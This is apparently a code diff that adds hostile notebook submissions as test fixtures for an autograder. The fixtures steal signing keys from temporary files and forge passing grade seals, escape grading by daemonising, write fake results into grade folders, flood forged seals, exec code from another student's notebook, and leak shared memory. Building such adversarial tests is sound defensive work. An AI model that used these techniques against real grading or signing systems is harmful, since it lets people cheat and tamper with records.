@@ -309,3 +309,165 @@ def build(root: Path) -> tuple[Path, Path, dict[str, Expected]]:
 def _folder(path: Path) -> Path:
     path.mkdir(parents=True, exist_ok=True)
     return path
+
+
+# ---------------------------------------------------------------------------- hostile submissions
+# Students who attack the grader itself rather than the exercise (issue 15, holes 3 to 7). They
+# are graded in a batch of their own beside a correct submission (tests/test_grade_hostile.py).
+
+SEAL_MIME = "application/vnd.labkit.grade-seal+json"
+
+
+def key_thief(loot: str) -> nbformat.NotebookNode:
+    """Blocking code that forges passing seals with any key it can steal: a detached watcher copies
+    every ``arm-*.json`` it can find into ``loot``, one cell crashes the kernel once so that a
+    replacement kernel's key is written while the watcher runs, and ``login``/``count_report``
+    display seals signed with the stolen keys, then leave before the real check can seal a failure."""
+    nb = blocking()
+    watcher = (
+        "import glob, os, shutil, time\n"
+        "end = time.time() + 90\n"
+        "while time.time() < end:\n"
+        "    for path in glob.glob('/tmp/labkit-grade-*/**/arm-*.json', recursive=True):\n"
+        "        try:\n"
+        f"            shutil.copy(path, os.path.join({loot!r}, str(time.time_ns()) + '.json'))\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "    time.sleep(0.005)\n"
+    )
+    steal = nbformat.v4.new_code_cell(
+        "import glob, json, os, subprocess, sys\n"
+        f"LOOT = {loot!r}\n"
+        "os.makedirs(LOOT, exist_ok=True)\n"
+        f"subprocess.Popen([sys.executable, '-c', {watcher!r}], start_new_session=True,\n"
+        "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
+        "named = os.environ.get('LABKIT_GRADE_ARM')  # the grader's first cell removed it, but try\n"
+        "if named and os.path.exists(named):\n"
+        "    import shutil\n"
+        "    shutil.copy(named, os.path.join(LOOT, 'env.json'))\n")
+    crash = nbformat.v4.new_code_cell(
+        "import time\ntime.sleep(1)\n"
+        "if not os.path.exists(os.path.join(LOOT, 'crashed')):\n"
+        "    open(os.path.join(LOOT, 'crashed'), 'w').close()\n"
+        "    os._exit(1)\n")
+    forge = nbformat.v4.new_code_cell(
+        "import hashlib, hmac\nfrom IPython.display import display\n\n"
+        "def _stolen():\n"
+        "    keys = []\n"
+        "    for path in glob.glob(os.path.join(LOOT, '*.json')):\n"
+        "        try:\n"
+        "            keys.append(bytes.fromhex(json.load(open(path))['key']))\n"
+        "        except (OSError, ValueError, KeyError):\n"
+        "            pass\n"
+        "    return keys\n\n"
+        "def _forge(*parts):\n"
+        "    keys = _stolen()\n"
+        "    for key in keys:\n"
+        "        for part in parts:\n"
+        "            payload = json.dumps([part, True, ''], ensure_ascii=True).encode('ascii')\n"
+        "            token = hmac.new(key, payload, hashlib.sha256).hexdigest()\n"
+        f"            display({{{SEAL_MIME!r}: {{'part': part, 'passed': True, 'message': '', 'token': token}}}},\n"
+        "                    raw=True)\n"
+        "    if keys:\n"
+        "        raise KeyboardInterrupt  # leave before the real check seals its failure\n")
+    first = _cell_index(nb, LOGIN_DEF)
+    nb.cells[first:first] = [steal, crash, forge]
+    nb = _replace(nb, BLOCKING_LOGIN, "_forge('ex01.offload_hash', 'ex01.many_logins')\n    " + BLOCKING_LOGIN)
+    return _replace(nb, BLOCKING_REPORT, "_forge('ex01.offload_primes')\n    " + BLOCKING_REPORT)
+
+
+def escaper(marker: str, port: int) -> nbformat.NotebookNode:
+    """The solution, plus processes that try to outlive grading (a new session, a double-fork
+    daemon; their command lines carry ``marker``) and a connection to a server on the grader's
+    loopback at ``port``."""
+    nb = solution()
+    sleeper = f"import time; time.sleep(300)  # {marker}"
+    nb.cells.append(nbformat.v4.new_code_cell(
+        "import os, socket, subprocess, sys\n"
+        f"subprocess.Popen([sys.executable, '-c', {sleeper!r}], start_new_session=True,\n"
+        "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid()\n"
+        "    if os.fork() == 0:\n"
+        f"        os.execv(sys.executable, [sys.executable, '-c', {sleeper!r}])\n"
+        "    os._exit(0)\n"
+        "os.wait()\n"
+        "try:\n"
+        f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'hello from a kernel')\n"
+        "except OSError:\n"
+        "    pass\n"))
+    return nb
+
+
+def shm_leaker() -> nbformat.NotebookNode:
+    """The solution, plus shared memory that nobody removes: a SharedArray that outlives close(),
+    a multiprocessing segment, a raw file in /dev/shm, and then the kernel killed by SIGKILL."""
+    nb = solution()
+    nb.cells.append(nbformat.v4.new_code_cell(
+        "import os, signal\nfrom multiprocessing import shared_memory\nimport labkit\n"
+        "kept = labkit.SharedArray.create(1_000_000, unlink_on_close=False)\n"
+        "raw = shared_memory.SharedMemory(create=True, size=4_000_000)\n"
+        "open('/dev/shm/zz_leaked_by_a_student', 'wb').write(b'x' * 1_000_000)\n"
+        "os.kill(os.getpid(), signal.SIGKILL)\n"))
+    return nb
+
+
+def trespasser(out: Path, solutions: Path) -> nbformat.NotebookNode:
+    """Blocking code that writes where grades are kept: results and feedback in ``out``, a file in
+    ``solutions``, and whatever --out it can read off its parents' command lines."""
+    nb = blocking()
+    nb.cells.append(nbformat.v4.new_code_cell(
+        "import os, json\n"
+        f"targets = [{str(out / 'results' / 'zz_injected.ex01.json')!r}, {str(out / 'feedback' / 'zz_injected.md')!r},\n"
+        f"           {str(out / 'zz_injected.csv')!r}, {str(solutions / 'zz_injected.ipynb')!r}]\n"
+        "pid = os.getppid()\n"
+        "while pid > 1:\n"
+        "    try:\n"
+        "        words = open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\\0')\n"
+        "        for flag in (b'--out', b'--solutions'):\n"
+        "            if flag in words:\n"
+        "                targets.append(os.path.join(words[words.index(flag) + 1].decode(), 'zz_from_cmdline'))\n"
+        "        pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])\n"
+        "    except (OSError, ValueError, IndexError):\n"
+        "        break\n"
+        "for target in targets:\n"
+        "    try:\n"
+        "        os.makedirs(os.path.dirname(target), exist_ok=True)\n"
+        "        with open(target, 'w') as handle:\n"
+        "            json.dump({'score': 7, 'injected': True}, handle)\n"
+        "    except OSError:\n"
+        "        pass\n"))
+    return nb
+
+
+def flooder() -> nbformat.NotebookNode:
+    """Blocking code that displays 600 large records of the grader's own seal type."""
+    nb = blocking()
+    nb.cells.append(nbformat.v4.new_code_cell(
+        "from IPython.display import display\n"
+        "for i in range(600):\n"
+        f"    display({{{SEAL_MIME!r}: {{'part': 'ex01.offload_hash', 'passed': True, 'message': 'x' * 100_000,\n"
+        "                            'token': '0' * 64}}, raw=True)\n"))
+    return nb
+
+
+def copycat(other: Path) -> nbformat.NotebookNode:
+    """Blocking code that, at grading time, replaces its ``login`` and ``count_report`` with those of
+    another student's notebook ``other``, read from the submissions folder."""
+    nb = blocking()
+
+    def borrow(definition: str) -> str:
+        return (
+            "\n\nimport json\n"
+            "try:\n"
+            f"    _cells = json.load(open({str(other)!r}))['cells']\n"
+            "except (OSError, ValueError):\n"
+            "    _cells = []\n"
+            "for _cell in _cells:\n"
+            "    _source = ''.join(_cell['source'])\n"
+            f"    if _cell['cell_type'] == 'code' and _source.startswith({definition!r}):\n"
+            "        exec(_source, globals())\n")
+
+    for definition in (LOGIN_DEF, REPORT_DEF):
+        nb.cells[_cell_index(nb, definition)].source += borrow(definition)
+    return nb
